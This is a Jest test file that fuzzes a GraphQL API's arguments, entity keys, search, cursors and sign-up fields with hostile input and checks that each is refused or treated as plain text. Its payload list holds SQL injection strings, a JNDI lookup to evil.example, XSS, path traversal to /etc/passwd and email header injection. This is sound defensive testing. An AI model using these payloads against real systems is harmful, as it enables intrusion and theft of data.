import { readdirSync, readFileSync } from 'node:fs';
import { join as joinPath } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  buildClientSchema,
  getIntrospectionQuery,
  getNamedType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isEnumType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputField,
  type GraphQLInputType,
  type GraphQLNamedInputType,
  type GraphQLSchema,
} from 'graphql';
import { credentialMutations } from '../../src/permissions/table.js';
import { startApp, type TestApp } from '../harness/app.js';
import { codeOf } from '../harness/calls.js';
import { join, newcomer, ownerOf, type Person } from '../harness/people.js';
import { sql } from '../harness/sql.js';
import { until } from '../harness/until.js';

let app: TestApp;
let owner: Person;
beforeAll(async () => {
  app = await startApp({ LIMITS_SCALE: '100' });
  owner = await ownerOf(app);
});
afterAll(() => app.close());

/** Text that something behind us might take for more than text. */
const HOSTILE = [
  "'; drop table users; --",
  "' or '1'='1",
  '" or 1=1 --',
  '\\',
  '%',
  '$1 ?? ? :id',
  'a\0b',
  '\ud800',
  'a\r\nBcc: everybody@example.test',
  '\x1b[31m',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  '__proto__',
  '{"$gt":""}',
  'x'.repeat(20_000),
];
/** Signs of a query, a program or a driver that show through. */
const SHOWS_THROUGH =
  /syntax error|select |insert into|pg_|knex|objection|sqlstate|invalid byte|node_modules|\.js:/i;

const valuesFor = ({ isNumber, field }: Leaf): unknown[] => {
  if (isNumber) return [-1, 2_147_483_647, -2_147_483_648];
  // Each try at these may cost a password hash, and all text takes the same way.
  return credentialMutations.has(field.name) ? [0, 6, 7, 15].map((index) => HOSTILE[index]) : HOSTILE;
};

interface Leaf {
  field: GraphQLField<unknown, unknown>;
  kind: 'query' | 'mutation';
  path: string[];
  isNumber: boolean;
}

describe('hostile text in any argument of any operation', () => {
  let schema: GraphQLSchema;
  beforeAll(async () => {
    schema = buildClientSchema((await app.graphql(getIntrospectionQuery())).data as never);
  });

  it('is taken as text or refused as input, and nothing else happens', async () => {
    const before = await sql(app, 'select id from users order by id');
    const leaves = leavesOf(schema);
    expect(leaves.length).toBeGreaterThan(50);
    const codes = new Set<string>();
    for (const leaf of leaves) {
      const values = valuesFor(leaf);
      const answers = await Promise.all(values.map((value) => send(leaf, value)));
      for (const [at, answer] of answers.entries()) {
        for (const { extensions } of answer.errors) codes.add(extensions.code);
        expect(`${leaf.field.name}.${leaf.path.join('.')}: ${answer.body}`).not.toMatch(
          /INTERNAL_SERVER|UNAVAILABLE/,
        );
        const own = JSON.stringify(values[at]).slice(1, -1);
        expect(answer.body.replaceAll(own, '')).not.toMatch(SHOWS_THROUGH);
      }
    }
    // All kinds of refusal were met, so the calls got as far as they should.
    expect([...codes]).toEqual(
      expect.arrayContaining(['BAD_USER_INPUT', 'NOT_FOUND', 'INVALID_CREDENTIALS']),
    );
    const after = await sql(app, 'select id, username from users order by id');
    expect(after.map(({ id }) => id as string)).toEqual(expect.arrayContaining(before.map(({ id }) => id)));
    // Passwords may be anything, so a few accounts were opened; none of them by a hostile name.
    expect(after.filter(({ username }) => /[^\w.+-]/.test(username as string))).toEqual([]);
  }, 60_000);

  function send({ field, kind, path }: Leaf, value: unknown) {
    const variables = Object.fromEntries(
      field.args
        .filter((arg) => isNonNullType(arg.type) || arg.name === path[0])
        .map((arg) => [arg.name, fill(arg, path, value)]),
    );
    const names = Object.keys(variables);
    const declared = names
      .map((name) => `$${name}: ${String(field.args.find((arg) => arg.name === name)!.type)}`)
      .join(', ');
    const given = names.map((name) => `${name}: $${name}`).join(', ');
    const selection = isLeafType(getNamedType(field.type)) ? '' : '{ __typename }';
    return app.graphql(`${kind} (${declared}) { ${field.name}(${given}) ${selection} }`, variables, {
      bearer: owner.access,
    });
  }

  /** A sound value for everything but the place where the hostile one goes. */
  function fill(arg: GraphQLArgument | GraphQLInputField, path: string[], value: unknown): unknown {
    const rest = path[0] === arg.name ? path.slice(1) : undefined;
    return wrap(arg.type, fillType(arg, getNamedType(arg.type), rest, value));
  }
  function fillType(
    arg: GraphQLArgument | GraphQLInputField,
    type: GraphQLNamedInputType,
    rest: string[] | undefined,
    value: unknown,
  ): unknown {
    if (isInputObjectType(type)) {
      const sound = type.name === 'SignUpInput' ? newcomer() : {};
      const fields = Object.values(type.getFields()).filter(
        ({ name, type: own }) => isNonNullType(own) || rest?.[0] === name,
      );
      return {
        ...sound,
        ...Object.fromEntries(
          fields.map((field) => [
            field.name,
            rest?.[0] === field.name || !(field.name in sound)
              ? fill(field, rest ?? [], value)
              : (sound as Record<string, unknown>)[field.name],
          ]),
        ),
      };
    }
    if (rest) return value;
    if (isEnumType(type)) return type.getValues()[0]?.name;
    return (
      {
        ID: owner.id,
        Int: 5,
        Boolean: true,
        EmailAddress: 'a@example.test',
        _Any: { __typename: 'User', id: '1' },
      }[type.name] ?? `Sound${arg.name}`
    );
  }
  function wrap(type: GraphQLInputType, value: unknown): unknown {
    if (isNonNullType(type)) return wrap(type.ofType, value);
    return isListType(type) ? [value] : value;
  }
});

/** Every place in every operation's arguments where text or a number goes. */
function leavesOf(schema: GraphQLSchema): Leaf[] {
  const roots = [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
  ] as const;
  const below = (
    args: readonly (GraphQLArgument | GraphQLInputField)[],
    path: string[],
  ): [string[], boolean][] =>
    args.flatMap((arg) => {
      const type = getNamedType(arg.type);
      if (isInputObjectType(type)) return below(Object.values(type.getFields()), [...path, arg.name]);
      return isEnumType(type) || ['Boolean', '_Any'].includes(type.name)
        ? []
        : [[[...path, arg.name], type.name === 'Int'] as [string[], boolean]];
    });
  return roots.flatMap(([kind, type]) =>
    Object.values(type?.getFields() ?? {}).flatMap((field) =>
      below(field.args, []).map(([path, isNumber]) => ({ field, kind, path, isNumber })),
    ),
  );
}

describe('hostile keys of entities', () => {
  it.each(HOSTILE.map((text) => [text.slice(0, 30), text]))(
    'are unknown keys or refused: %j',
    async (_start, value) => {
      const query = `query ($r: [_Any!]!) { _entities(representations: $r) { __typename ... on User { id } ... on Service { name } } }`;
      for (const key of [
        { __typename: 'User', id: value },
        { __typename: 'Service', name: value },
        { __typename: 'Role', id: value },
        { __typename: 'Session', id: value },
      ]) {
        const answer = await app.graphql(query, { r: [key] }, { bearer: owner.access });
        expect([undefined, 'BAD_USER_INPUT']).toContain(codeOf(answer));
      }
    },
  );

  it.each([[1], [true], [null], [{}], [{ $ne: '' }], [['a']]])(
    'of another type are refused or unknown: %j',
    async (id) => {
      const query = 'query ($r: [_Any!]!) { _entities(representations: $r) { __typename } }';
      const answer = await app.graphql(query, { r: [{ __typename: 'User', id }] });
      expect(codeOf(answer)).toBe('BAD_USER_INPUT');
    },
  );
});

describe('searching', () => {
  let ana: Person;
  beforeAll(async () => {
    ana = await join(app, { username: 'percent_100', firstName: 'A%na', lastName: 'B\\c' });
    await join(app, { username: 'percentX100' });
  });
  const found = async (search: string) => {
    const { data } = await app.graphql(
      'query ($f: UserFilter) { users(filter: $f) { nodes { username } } }',
      { f: { search } },
      { bearer: owner.access },
    );
    return (data['users'].nodes as { username: string }[]).map(({ username }) => username);
  };

  it('takes % and _ and \\ for what they are', async () => {
    expect(await found('percent_1')).toEqual([ana.username]);
    expect(await found('a%n')).toEqual([ana.username]);
    expect(await found('b\\c')).toEqual([ana.username]);
    expect(await found('%%')).toEqual([]);
    expect(await found('__________')).toEqual([]);
  });

  it.each(['PASSWORD_HASH', 'passwordHash', 'id; drop table users', 'EMAIL, USERNAME'])(
    'cannot be ordered by %s',
    async (field) => {
      const query = 'query ($o: UserOrder) { users(orderBy: $o) { totalCount } }';
      const answer = await app.graphql(query, { o: { field, direction: 'ASC' } }, { bearer: owner.access });
      expect(codeOf(answer)).toBe('BAD_USER_INPUT');
    },
  );

  it.each(['passwordHash', 'totpSecret', 'authzVersion', 'deletedAt'])(
    'cannot be narrowed by %s',
    async (name) => {
      const query = 'query ($f: UserFilter) { users(filter: $f) { totalCount } }';
      const answer = await app.graphql(query, { f: { [name]: 'x' } }, { bearer: owner.access });
      expect(codeOf(answer)).toBe('BAD_USER_INPUT');
    },
  );

  it.each([
    ['CREATED_AT', "now()'; drop table users; --"],
    ['CREATED_AT', 'infinity'],
    ['USERNAME', 'x'],
    ['PASSWORD_HASH', '$2b$'],
  ])('cannot be continued by a cursor made up for %s: %s', async (order, value) => {
    const after = Buffer.from(JSON.stringify([order, value, owner.id])).toString('base64url');
    const answer = await app.graphql(
      'query ($a: String) { users(after: $a) { totalCount nodes { id } } }',
      { a: after },
      { bearer: owner.access },
    );
    expect(codeOf(answer)).toBe('BAD_USER_INPUT');
  });
});

describe('what people call themselves', () => {
  it('carries no link, markup or further recipient into a mail of ours', async () => {
    const { email } = await join(app, { firstName: '<a href="https://evil.example">Ana</a>' });
    const folder = joinPath(app.dataDir, 'mail');
    const mail = await until('the mail is there', () =>
      readdirSync(folder)
        .map((name) => readFileSync(joinPath(folder, name), 'utf8'))
        .find((text) => text.includes(`To: ${email}`)),
    );
    const [head = '', ...parts] = mail.split('\r\n\r\n');
    expect(head.match(/^(to|cc|bcc):.*$/gim)).toEqual([`To: ${email}`]);
    const html = parts.join('').replace(/=\r\n/g, '').replaceAll('=3D', '=').split('text/html')[1] ?? '';
    expect(html).toContain('Hello,');
    expect(mail).not.toContain('evil.example');
  });

  it.each([
    ['username', 'a b'],
    ['username', 'a@b.test'],
    ['username', '<b>'],
    ['firstName', 'Ana\nLi'],
    ['firstName', '\u2028'],
    ['phone', "+1'; --"],
    ['telegram', '<b>'],
    ['email', '"a\r\nBcc: x@y.test"@example.test'],
    ['email', 'a@example.test\0'],
    ['country', "P'"],
  ])('is refused where it could mean more, as %s %j', async (name, value) => {
    const answer = await app.graphql('mutation ($i: SignUpInput!) { signUp(input: $i) { __typename } }', {
      i: newcomer({ [name]: value }),
    });
    expect(answer.errors[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', fields: [{ name }] });
  });
});
